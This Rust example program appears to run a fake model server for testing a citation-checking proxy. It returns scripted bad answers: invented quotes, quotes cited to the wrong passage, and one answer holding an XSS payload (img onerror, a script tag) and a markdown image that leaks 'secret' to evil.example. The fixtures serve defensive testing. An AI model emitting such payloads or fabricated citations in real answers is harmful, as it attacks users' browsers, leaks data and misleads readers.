//! A fake OpenAI-compatible model server for the load benchmark and the end-to-end test.
//!
//! `cargo run --release -p onrecord-proxy --example fake_upstream -- [ADDR] [DELAY_MS]` prints
//! its base URL on stdout. It answers from the passages in the prompt, and the question picks
//! the misbehaviour: "invent" (a quote that is in no passage), "markup" (HTML and an image
//! link in the answer, with one real quote), "elsewhere" (a real quote of the second passage
//! cited to the first), "prose" (no JSON), otherwise an honest quote of the first passage.
//! Replies stream in 8 pieces 40 ms apart unless DELAY_MS is given, which replies in one go
//! after that delay (0 for the instant upstream of the load test).

#[path = "../tests/support/fake_upstream.rs"]
mod fake_upstream;

use std::sync::Arc;
use std::time::Duration;

use fake_upstream::{Fake, Reply, prompt_parts};
use serde_json::{Value, json};

fn first_words(text: &str, n: usize) -> String {
    text.split_whitespace()
        .take(n)
        .collect::<Vec<_>>()
        .join(" ")
}

fn script(delay: Option<Duration>) -> impl Fn(usize, &Value) -> Reply + Send + Sync {
    move |_, body| {
        let (passages, question) = prompt_parts(body);
        let q = question.to_lowercase();
        let (first_id, first) = passages.first().cloned().unwrap_or((0, String::new()));
        let honest = first_words(&first, 8);
        let content = if q.contains("prose") {
            "Sure! Here is what the pages say: returns are easy.".to_string()
        } else {
            let (answer, quote, fragment) = if q.contains("invent") {
                (
                    "You can return bikes for a full year.".to_string(),
                    "Bikes may be returned within 365 days, no questions asked.".to_string(),
                    first_id,
                )
            } else if q.contains("markup") {
                (
                    "<img src=x onerror=\"window.__pwned=1\"> **Yes.** ![x](https://evil.example/leak.png?q=secret) <script>window.__pwned=2</script>".to_string(),
                    honest,
                    first_id,
                )
            } else if q.contains("elsewhere") {
                let other = passages
                    .get(1)
                    .map(|p| first_words(&p.1, 8))
                    .unwrap_or_default();
                ("Cited to the wrong passage.".to_string(), other, first_id)
            } else {
                ("Here is what the pages say.".to_string(), honest, first_id)
            };
            json!({"found": true, "answer": answer, "claims": [{"quote": quote, "fragment": fragment}]})
                .to_string()
        };
        match delay {
            Some(d) if d.is_zero() => Reply::text(&content),
            Some(d) => Reply::Delayed(d, Box::new(Reply::text(&content))),
            None => Reply::Stream {
                content,
                pieces: 8,
                pace: Duration::from_millis(40),
                finish: Some("stop"),
                done: true,
            },
        }
    }
}

#[tokio::main]
async fn main() -> std::io::Result<()> {
    let mut args = std::env::args().skip(1);
    let addr = args.next().unwrap_or_else(|| "127.0.0.1:0".into());
    let delay = args
        .next()
        .and_then(|ms| ms.parse().ok())
        .map(Duration::from_millis);
    let listener = tokio::net::TcpListener::bind(&addr).await?;
    let fake = Fake::serve(listener, Arc::new(script(delay)));
    println!("{}", fake.url);
    std::future::pending::<()>().await;
    Ok(())
}
